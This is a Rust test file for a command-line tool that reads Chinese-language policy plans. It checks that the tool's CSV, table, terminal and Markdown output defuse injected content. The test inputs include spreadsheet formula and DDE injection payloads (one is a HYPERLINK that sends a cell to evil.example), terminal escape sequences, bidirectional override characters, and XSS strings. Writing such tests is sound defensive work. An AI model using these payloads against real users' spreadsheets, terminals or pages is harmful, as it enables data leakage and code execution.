//! What the command line prints cannot be turned against its reader: CSV cells a
//! spreadsheet would run are text, a table's cells and everything shown on a terminal
//! write control, bidirectional and invisible characters as escapes, and Markdown
//! cells read back as the plan's text and as no markup. Each plan here is written to
//! attack one reader, and read with `--plan FILE` as a user would; the expectations are
//! the plan's own values, read from its JSON.

#![cfg(feature = "cli")]

#[path = "common/cli.rs"]
mod command;
#[path = "common/commonmark.rs"]
mod commonmark;
#[path = "common/temp.rs"]
mod temp;

use std::path::Path;
use std::process::Command;

use command::cli;
use commonmark::Block;
use serde_json::Value;
use temp::TempDir;

/// Titles, a body named and a quote that a spreadsheet would run (the issue's, and a
/// leading tab and `-`), beside one with a full-width `＝` and one with `-` inside.
const FORMULAS: &str = "一、重點任務\n\
    1.=HYPERLINK(\"http://evil.example/\"&A1,\"click\")。健全體系。到2025年,=覆蓋率達到60%。\n\
    責任單位:=1+2局、財政局\n\
    2.+cmd|' /C calc'!A0。新建站。\n\
    責任單位:市民政局\n\
    3.@SUM(1+1)。開發崗位。\n\
    責任單位:市財政局\n\
    4.\tTAB開頭。體系。\n\
    責任單位:市民政局\n\
    5.-2+3。體系。\n\
    責任單位:市民政局\n\
    6.＝1+2全形。體系。\n\
    責任單位:市民政局\n\
    7.1-2+3。體系。\n\
    責任單位:市民政局\n";

/// Runs the command on the plan in `file`, asserts it succeeds, and returns stdout
/// (stderr may warn of the bodies of no known kind).
fn run(file: &Path, args: &[&str]) -> String {
    let output = cli().arg("--plan").arg(file).args(args).output().unwrap();
    assert!(
        output.status.success(),
        "{args:?}: {}",
        String::from_utf8_lossy(&output.stderr)
    );
    String::from_utf8(output.stdout).unwrap()
}

/// The CSV a command prints, as a CSV reader reads it: its header and rows.
fn csv_of(file: &Path, args: &[&str]) -> (String, Vec<String>, Vec<Vec<String>>) {
    let mut args = args.to_vec();
    args.extend(["--format", "csv"]);
    let text = run(file, &args);
    let (header, rows) = command::read_csv(&text);
    (text, header, rows)
}

/// Whether a spreadsheet reads `cell` as a formula: OWASP's first characters, unless the
/// cell is a negative number.
fn is_formula(cell: &str) -> bool {
    let negative = cell
        .strip_prefix('-')
        .is_some_and(|n| !n.is_empty() && n.bytes().all(|b| b.is_ascii_digit() || b == b'.'));
    cell.starts_with(['=', '+', '-', '@', '\t', '\r']) && !negative
}

#[test]
fn csv_cells_a_spreadsheet_would_run_are_text() {
    let dir = TempDir::new("wuzhong-csv-formulas");
    let file = dir.file("plan.txt", FORMULAS);
    let (raw, header, rows) = csv_of(&file, &["tasks"]);
    let column = |name: &str| header.iter().position(|h| h == name).unwrap();
    let titles: Vec<&str> = rows.iter().map(|r| r[column("title")].as_str()).collect();
    assert_eq!(
        titles,
        [
            r#"'=HYPERLINK("http://evil.example/"&A1,"click")"#,
            "'+cmd|' /C calc'!A0",
            "'@SUM(1+1)",
            "'\tTAB開頭",
            "'-2+3",
            // A full-width ＝ is another character, which no spreadsheet runs; a `-`
            // after the first character starts nothing.
            "＝1+2全形",
            "1-2+3",
        ]
    );
    // Each prefixed cell is quoted, as OWASP advises.
    for title in &titles[..5] {
        assert!(
            raw.contains(&format!("\"{}\"", title.replace('"', "\"\""))),
            "{title} is quoted in {raw}"
        );
    }
    // The body named `=1+2局` as the lead and among the names; a list joined with `;`
    // is one cell, and starts with it.
    assert_eq!(rows[0][column("lead_name")], "'=1+2局");
    assert_eq!(rows[0][column("department_names")], "'=1+2局;財政局");
    assert_eq!(rows[0][column("lead_organization")], "other-1");

    let (_, header, rows) = csv_of(&file, &["departments"]);
    let name = header.iter().position(|h| h == "name").unwrap();
    assert_eq!(rows[0][name], "'=1+2局");

    let (_, header, rows) = csv_of(&file, &["targets"]);
    let quote = header.iter().position(|h| h == "quote").unwrap();
    assert_eq!(rows[0][quote], "'=覆蓋率達到60%");

    // JSON is for programs, and says each value exactly.
    let json: Value = serde_json::from_str(&run(&file, &["tasks", "--format", "json"])).unwrap();
    assert_eq!(
        json[0]["title"],
        r#"=HYPERLINK("http://evil.example/"&A1,"click")"#
    );
    assert_eq!(json[0]["lead_name"], "=1+2局");
}

#[test]
fn no_listing_writes_a_formula_into_its_csv() {
    let dir = TempDir::new("wuzhong-csv-listings");
    let file = dir.file("plan.txt", FORMULAS);
    let listings: [&[&str]; 9] = [
        &["tasks"],
        &["task", "1"],
        &["task", "5"],
        &["targets"],
        &["target", "t1.1"],
        &["departments"],
        &["department", "other-1"],
        &["department", "民政局"],
        &["domains"],
    ];
    let mut prefixed = 0;
    for args in listings {
        let (raw, _, rows) = csv_of(&file, args);
        for cell in rows.iter().flatten() {
            assert!(!is_formula(cell), "{args:?}: `{cell}` would run");
            if let Some(rest) = cell.strip_prefix('\'') {
                if is_formula(rest) {
                    prefixed += 1;
                    let quoted = format!("\"{}\"", cell.replace('"', "\"\""));
                    assert!(raw.contains(&quoted), "{args:?}: `{cell}` is not quoted");
                }
            }
        }
    }
    // tasks: 5 titles, and the lead and names of task 1; task 1: its title, lead, names,
    // responsibility and target quote; task 5: its title; targets: the quote, the metric
    // and the lead; target t1.1: those and its task's title; departments: the name and
    // short name; department other-1: the title of task 1; 民政局: the titles of tasks
    // 2, 4 and 5.
    assert_eq!(prefixed, 7 + 5 + 1 + 3 + 4 + 2 + 1 + 3);
}

/// Titles, a body and a party name that would act on a terminal: the issue's window
/// title and screen clear, BEL, a C1 control, bidirectional overrides and isolates, a
/// zero-width space, the line and paragraph separators, and a backslash escape written
/// in the text itself.
const TERMINAL: &str = "一、重點任務\n\
    1.\u{1b}]0;title\u{7}。體系\u{1b}[2J。\n\
    責任單位:市民政局\n\
    2.ab。體系。\n\
    責任單位:\u{202e}某局\n\
    3.\u{9b}31m\u{2066}x\u{200b}\u{2028}\u{2029}。y。\n\
    責任單位:市民政局\n\
    4.a\\u{1b}b。z。\n\
    責任單位:市民政局\n";

/// Whether `c` is what a terminal would act on or hide.
fn acts(c: char) -> bool {
    c != '\n' && c.is_control()
        || matches!(c, '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{2069}')
}

#[test]
fn a_table_writes_what_a_terminal_would_act_on_as_escapes() {
    let dir = TempDir::new("wuzhong-table-escapes");
    let file = dir.file("plan.txt", TERMINAL);
    let tasks = run(&file, &["tasks", "--format", "table"]);
    assert!(!tasks.contains(acts), "{tasks:?}");
    let lines: Vec<&str> = tasks.lines().collect();
    // Each task's number as written (`1.`) and its level (2: a part, no groups) before
    // its title. The widest title, task 3's, is 42 characters escaped; task 1's is 19.
    let one = r"\u{1b}]0;title\u{7}";
    assert_eq!(
        lines[1],
        format!("1  1.         2  {one}{}市民政局", " ".repeat(42 - 19 + 2))
    );
    assert!(
        lines[3]
            .starts_with(r"3  3.         2  \u{9b}31m\u{2066}x\u{200b}\u{2028}\u{2029}  市民政局")
    );
    // The text's own backslash is doubled, so it cannot pass for an escape.
    assert!(lines[4].starts_with(r"4  4.         2  a\\u{1b}b  "));
    // The columns line up by the escapes' width: the lead starts where its header does
    // (every title is ASCII once escaped, one column a character).
    let lead = lines[0].find("lead").unwrap();
    for line in &lines[1..] {
        let before: String = line.chars().take(lead).collect();
        assert!(
            before.is_ascii() && before.ends_with("  ") && line.chars().nth(lead) != Some(' '),
            "{line:?} has its lead at column {lead}"
        );
    }

    let task = run(&file, &["task", "1", "--format", "table"]);
    assert!(!task.contains(acts), "{task:?}");
    assert!(task.contains(r"body        體系\u{1b}[2J。"), "{task}");
    let departments = run(&file, &["departments", "--format", "table"]);
    assert!(!departments.contains(acts), "{departments:?}");
    assert!(departments.contains(r"\u{202e}某局"), "{departments}");
    let department = run(&file, &["department", "市民政局", "--format", "table"]);
    assert!(!department.contains(acts), "{department:?}");
}

/// Titles that Markdown would read as markup: the issue's HTML, images and links, and an
/// autolink, a `\|`, emphasis, code, a heading and a list, leading spaces, and the
/// characters of [`TERMINAL`].
const MARKUP: &str = "一、重點任務\n\
    1.<img src=x onerror=alert(1)>。體系。\n\
    責任單位:<i>某</i>局\n\
    2.<script>alert(1)</script>![x](http://evil.example/x.png)。體系。\n\
    責任單位:市民政局\n\
    3.[click](javascript:alert(1)) <http://evil.example> www.evil.example。體系。\n\
    責任單位:市民政局\n\
    4.a\\|b|c `code` ~~s~~ *em* &amp; # h。體系。\n\
    責任單位:市民政局\n\
    5.    - 1. ---。體系。\n\
    責任單位:市民政局\n\
    6.\u{1b}]0;title\u{7}\u{202e}\u{2028}x。體系。\n\
    責任單位:市民政局\n";

#[test]
fn markdown_cells_read_back_as_the_text_and_no_markup() {
    let dir = TempDir::new("wuzhong-markdown-cells");
    let file = dir.file("plan.txt", MARKUP);
    let json: Value = serde_json::from_str(&run(&file, &["tasks", "--format", "json"])).unwrap();
    let records = json.as_array().unwrap();
    assert_eq!(records.len(), 6);

    let markdown = run(&file, &["tasks", "--format", "markdown"]);
    assert!(!markdown.contains(acts), "{markdown:?}");
    let read = commonmark::read(&markdown);
    assert_eq!(read.markup, Vec::<String>::new(), "{markdown}");
    let [table] = &read.tables[..] else {
        panic!("one table: {markdown}");
    };
    assert_eq!(table.len(), 1 + records.len());
    assert_eq!(
        table[0],
        ["#", "label", "level", "title", "lead", "domains"]
    );
    for (row, record) in table[1..].iter().zip(records) {
        assert_eq!(row.len(), 6, "{row:?}");
        assert_eq!(row[0], record["number"].to_string());
        assert_eq!(row[1], record["label"].as_str().unwrap());
        assert_eq!(row[2], record["level"].to_string());
        assert_eq!(row[3], record["title"].as_str().unwrap());
        assert_eq!(row[4], record["lead_name"].as_str().unwrap());
    }
    assert_eq!(table[1][4], "<i>某</i>局");
    assert_eq!(table[4][3], "a\\|b|c `code` ~~s~~ *em* &amp; # h");

    // A task in full, and a department's tasks: two tables each.
    for args in [&["task", "4"][..], &["department", "民政局"]] {
        let mut args = args.to_vec();
        args.extend(["--format", "markdown"]);
        let markdown = run(&file, &args);
        let read = commonmark::read(&markdown);
        assert_eq!(read.markup, Vec::<String>::new(), "{markdown}");
        for table in &read.tables {
            let width = table[0].len();
            assert!(table.iter().all(|row| row.len() == width), "{table:?}");
        }
        let cells: Vec<&str> = read.texts(Block::Cell);
        assert!(
            cells.contains(&"a\\|b|c `code` ~~s~~ *em* &amp; # h"),
            "{cells:?}"
        );
    }
}

/// Runs `args` with a terminal for stdout, with util-linux's `script`; `None` where it is
/// missing.
fn on_terminal(file: &Path, args: &str) -> Option<Vec<u8>> {
    let has_script = Command::new("script")
        .arg("--version")
        .output()
        .is_ok_and(|o| o.status.success());
    if !has_script {
        eprintln!("skipped: util-linux `script` is not installed");
        return None;
    }
    let binary = assert_cmd::cargo::cargo_bin("wuzhong-plan");
    let command = format!("{} --plan {} {args}", binary.display(), file.display());
    let output = Command::new("script")
        .args(["-qec", &command, "/dev/null"])
        .output()
        .unwrap();
    assert!(output.status.success(), "{args}");
    Some(output.stdout)
}

#[test]
fn a_terminal_is_shown_escapes_and_a_pipe_gets_the_bytes() {
    let dir = TempDir::new("wuzhong-terminal");
    let file = dir.file("plan.txt", TERMINAL);
    // Piped, `text` and `render --to text` are the plan's text byte for byte.
    assert_eq!(run(&file, &["text"]), TERMINAL);
    assert_eq!(run(&file, &["render", "--to", "text"]), TERMINAL);
    for args in [
        "text",
        "render --to text",
        "json",
        "tasks",
        "render --to markdown",
    ] {
        let Some(shown) = on_terminal(&file, args) else {
            return;
        };
        let shown = String::from_utf8(shown).unwrap();
        // The terminal turns each line feed into CRLF, and shows stderr's warnings too;
        // nothing acts on it.
        let shown = shown.replace("\r\n", "\n");
        assert!(!shown.contains(acts), "{args}: {shown:?}");
        if args.contains("text") {
            assert!(
                shown.contains(r"1.\u{1b}]0;title\u{7}。體系\u{1b}[2J。"),
                "{shown}"
            );
            assert!(shown.contains(r"責任單位:\u{202e}某局"), "{shown}");
            // The text's own backslash is as it is in a document: a line of the text.
            assert!(shown.contains(r"4.a\u{1b}b。z。"), "{shown}");
            // The terminal shows stderr too: the warning about `\u{202e}某局`.
            let lines = shown.lines().filter(|l| !l.starts_with("warning: "));
            assert_eq!(lines.count(), TERMINAL.lines().count(), "{shown}");
        }
    }
}
